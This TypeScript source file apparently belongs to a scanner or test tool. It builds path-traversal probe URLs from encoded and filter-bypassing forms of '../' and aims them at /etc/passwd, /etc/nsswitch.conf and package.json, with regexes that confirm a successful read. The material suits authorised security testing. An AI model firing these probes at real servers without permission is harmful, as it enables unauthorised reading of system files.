/** Addresses that lead out of the folder of a server that looks for files by what it is asked for. */

/** How "the folder above" may be written, so that it is still there when a server has tidied an address up. */
const ABOVE = ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..%5c', '..%252f', '....//'];

/** More than any folder has above it: there is nothing above the first. */
const DEEP = 16;
/** How far above its files an application may begin. */
const SHALLOW = 4;

interface Outside {
  path: string;
  /** A pattern of what the file holds, line by line. */
  holds: string;
}

/** Files with a suffix and without: some servers look for those alone. */
const OF_THE_SYSTEM = [
  { file: 'etc/passwd', holds: '^root:[^:\\n]*:0:' },
  { file: 'etc/nsswitch.conf', holds: '^(passwd|hosts):\\s' },
];
const OF_THE_APPLICATION = { file: 'package.json', holds: '"(dependencies|devDependencies|scripts)"\\s*:' };

/** @param folders that are known to hold files, each with a slash at its end */
export function traversals(folders: readonly string[]): Outside[] {
  return [...new Set(['/', ...folders])].flatMap((folder) =>
    ABOVE.flatMap((above) => [
      ...OF_THE_SYSTEM.map(({ file, holds }) => ({
        path: folder + above.repeat(DEEP) + file.replace('/', above.replace(/^(\.|%2e)+/, '')),
        holds,
      })),
      ...Array.from({ length: SHALLOW }, (_, index) => ({
        path: folder + above.repeat(index + 1) + OF_THE_APPLICATION.file,
        holds: OF_THE_APPLICATION.holds,
      })),
    ]),
  );
}
